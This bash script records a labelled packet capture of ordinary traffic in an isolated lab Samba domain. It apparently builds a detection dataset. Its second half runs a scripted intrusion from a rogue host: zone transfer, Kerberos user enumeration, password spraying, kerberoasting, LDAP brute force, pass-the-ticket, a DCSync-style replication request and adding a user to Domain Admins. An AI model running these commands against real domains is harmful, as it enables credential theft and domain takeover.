#!/usr/bin/env bash
# Record examples/intrusion.pcap.gz: an ordinary quarter of an hour in a lab domain and an intrusion within it.
# Needs root, Linux, and the lab scripts (ATP_LAB: a Samba domain in network namespaces). Takes 16 minutes.
#   ATP_LAB=/path/to/lab examples/record.sh [MINUTES]
# Writes intrusion.pcap.gz and labels.csv (start,end,activity,source,account,label) beside itself.
set -u
here=$(cd "$(dirname "$0")" && pwd)
export LAB_DIR=${LAB_DIR:-/tmp/atp-example} LAB_ID=exmpl LAB_NET=10.20.30 REALM=CORP.EXAMPLE.TEST DOMAIN=CORP
cd "${ATP_LAB:?the folder of the lab scripts}" || exit 1
./up.sh || exit 1
. ./lib.sh
minutes=${1:-15}
out=$here/intrusion.pcap csv=$here/labels.csv
DC=dc1.$DNSDOM PW=$USERPASS AP=$ADMINPASS RH=$LAB_DIR/rogue/root CH=$LAB_DIR/client/root
echo "start,end,activity,source,account,label" >"$csv"

act() { # LABEL ACTIVITY HOST ACCOUNT -- command…
  local label=$1 activity=$2 host=$3 account=$4 begin
  shift 5
  begin=$(date +%s.%6N)
  lx "$host" timeout 60 "$@" </dev/null >>"$LAB_DIR/record.log" 2>&1
  echo "$begin,$(date +%s.%6N),$activity,${HOSTIP[$host]},$account,$label" >>"$csv"
}
kin() { printf "echo '%s' | kinit %s" "$2" "$1"; }

ip netns exec "$LAB_ID-sw" tcpdump -i br0 -s 0 -U -n -w "$out" 'not ip6' 2>"$LAB_DIR/tcpdump.log" &
dump=$!
sleep 1

ordinary() { # what people and machines do; one round takes about half a minute
  local user=$1
  act benign dns_lookup client - -- bash -c "dig +short SRV _ldap._tcp.dc._msdcs.$DNSDOM; dig +short $DC; dig +short ws01.$DNSDOM"
  act benign user_logon client "$user" -- bash -c "$(kin "$user" "$PW")"
  sleep 3
  act benign service_ticket client "$user" -- kvno "cifs/$DC" "ldap/$DC" "HTTP/web1.$DNSDOM"
  act benign policy_read client "$user" -- smbclient "//$DC/sysvol" --use-kerberos=required --use-krb5-ccache="$CH/krb5cc" -c "cd $DNSDOM/Policies; ls"
  sleep 5
  act benign ldap_own_entry client "$user" -- ldapsearch -Q -LLL -Y GSSAPI -H "ldap://$DC" -b "$BASEDN" "(sAMAccountName=$user)" memberOf displayName
  sleep 6
  act benign file_share_ntlm client "$user" -- smbclient "//${HOSTIP[dc1]}/netlogon" --use-kerberos=off -U "$user%$PW" -c ls
  act benign machine_logon client 'CLIENT$' -- kinit -k 'CLIENT$'
  sleep 8
}

(
  act benign machine_join client administrator -- net ads join -U "administrator%$AP"
  end=$((SECONDS + minutes * 60)) n=0
  users=(alice bob carol erin)
  while [ $SECONDS -lt $end ]; do
    ordinary "${users[n % 4]}"
    [ $((n % 7)) = 3 ] && act benign typing_error client carol -- bash -c "$(kin carol mistyped)"
    [ $((n % 9)) = 5 ] && act benign replication dc2 'DC2$' -- samba-tool drs replicate dc2 dc1 "$BASEDN" -P
    [ $n = 6 ] && act benign password_change client erin -- bash -c "printf '%s\n%s\n%s\n' '$PW' '${PW}x' '${PW}x' | kpasswd erin; printf '%s\n%s\n%s\n' '${PW}x' '$PW' '$PW' | kpasswd erin"
    [ $n = 8 ] && act benign dns_record client administrator -- samba-tool dns add "$DC" "$DNSDOM" ws01 A "$LAB_NET.101" -U "administrator%$AP"
    n=$((n + 1))
  done
) &
people=$!

sleep $((minutes * 60 / 5))
step() { sleep $((minutes * 60 / 30)); }
# an unknown laptop is plugged in
act dns_recon zone_transfer rogue - -- dig AXFR "$DNSDOM" "@${HOSTIP[dc1]}"
step
act account_enum kerberos_unknown_users rogue many -- bash -c "for u in adm backup sql helpdesk scanner print test guest1 oracle vpn intern ceo cfo hr sales web ftp mail exch sap svc-backup svc-print admin1 admin2 operator alice bob carol; do echo x | kinit \$u; done"
step
# refused: the KDC of the lab insists on pre-authentication, so no reply that could be cracked is on the wire
act asrep_refused as_rep_roasting rogue nopreauth -- bash -c "sed 's/^\[libdefaults\]/&\n default_tkt_enctypes = arcfour-hmac\n allow_weak_crypto = true/' /etc/krb5.conf >$RH/rc4.conf; echo wrong | KRB5_CONFIG=$RH/rc4.conf kinit nopreauth"
step
act password_spray kerberos_spray rogue many -- bash -c "for u in alice bob carol dave erin svc-sql svc-web honey administrator nopreauth; do echo Winter2026 | kinit \$u; done; $(kin frank "$PW")"
step
act samr_recon samr_enumeration rogue frank -- rpcclient -U "frank%$PW" "$DC" -c 'enumdomusers;enumdomgroups;querydispinfo;querygroupmem 0x200;enumalsgroups builtin'
act session_enum session_enumeration rogue frank -- rpcclient -U "frank%$PW" "$DC" -c 'netsessenum 1'
step
act ldap_recon spn_search rogue frank -- ldapsearch -x -LLL -H "ldap://$DC" -D "frank@$DNSDOM" -w "$PW" -b "$BASEDN" '(&(objectClass=user)(servicePrincipalName=*)(!(objectClass=computer)))' sAMAccountName servicePrincipalName
act kerberoast rc4_service_tickets rogue frank -- bash -c "$(kin frank "$PW"); kvno -e arcfour-hmac MSSQLSvc/sql1.$DNSDOM:1433; kvno -e arcfour-hmac cifs/$DC"
step
act brute_force ldap_guessing rogue dave -- bash -c "for i in \$(seq 1 25); do ldapsearch -x -H ldap://$DC -D dave@$DNSDOM -w guess\$i -b '' -s base; done"
step
cp -f "$CH/krb5cc" "$RH/stolen"
act pass_the_ticket stolen_ticket rogue many -- env KRB5CCNAME="FILE:$RH/stolen" kvno "host/$DC" "cifs/$DC"
step
act dcsync replication_request rogue dave -- rpcclient -U "dave%$PW" "ncacn_ip_tcp:$DC[seal]" -c "dsgetncchanges $BASEDN"
step
printf 'dn: CN=Domain Admins,CN=Users,%s\nchangetype: modify\nadd: member\nmember: CN=frank Lab,CN=Users,%s\n' "$BASEDN" "$BASEDN" >"$RH/add.ldif"
act sensitive_group_change add_to_domain_admins rogue dave -- ldapmodify -x -H "ldap://$DC" -D "dave@$DNSDOM" -w "$PW" -f "$RH/add.ldif"
act honeytoken honeytoken_logon rogue honey -- bash -c "$(kin honey "$PW")"
wait $people
sleep 2
kill -INT $dump
wait $dump
./down.sh --purge
gzip -9 -n -f "$out"
